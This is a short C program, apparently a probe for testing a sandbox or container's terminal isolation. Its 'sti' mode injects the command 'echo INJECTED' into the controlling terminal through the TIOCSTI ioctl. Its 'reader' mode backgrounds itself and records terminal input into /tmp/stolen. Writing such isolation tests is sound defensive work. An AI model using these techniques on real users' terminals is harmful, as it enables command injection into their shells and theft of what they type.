/* What a guest program can do to the terminal of whoever entered the guest.
 *   entry_tty sti     push "echo INJECTED\n" with TIOCSTI into fds 0-2 and /dev/tty; report each attempt
 *   entry_tty reader  go to the background (the command returns at once) and read fd 0 and /dev/tty for
 *                     4 seconds, appending whatever arrives to /tmp/stolen */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

static void sti(int fd, const char *label) {
    const char *text = "echo INJECTED\n";
    int ok = 0;
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) == 0) ok++;
    printf("%s: %s\n", label, ok ? "pushed" : strerror(errno));
}

int main(int argc, char **argv) {
    if (argc > 1 && !strcmp(argv[1], "sti")) {
        sti(0, "fd0");
        sti(1, "fd1");
        sti(2, "fd2");
        int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
        if (tty >= 0) sti(tty, "devtty"); else printf("devtty: %s\n", strerror(errno));
        fflush(stdout);
        return 0;
    }
    if (argc > 1 && !strcmp(argv[1], "reader")) {
        int tty = open("/dev/tty", O_RDONLY | O_NOCTTY | O_NONBLOCK);
        if (fork() != 0) return 0;
        int out = open("/tmp/stolen", O_WRONLY | O_CREAT | O_APPEND, 0600);
        struct pollfd fds[2] = {{0, POLLIN, 0}, {tty, POLLIN, 0}};
        time_t end = time(NULL) + 4;
        while (time(NULL) < end) {
            if (poll(fds, tty >= 0 ? 2 : 1, 200) <= 0) continue;
            for (int i = 0; i < 2; i++) {
                char buf[256];
                if (!(fds[i].revents & POLLIN)) { if (fds[i].revents) fds[i].fd = -1; continue; }
                ssize_t n = read(fds[i].fd, buf, sizeof buf);
                if (n > 0) write(out, buf, n); else fds[i].fd = -1;
            }
        }
        return 0;
    }
    return 2;
}
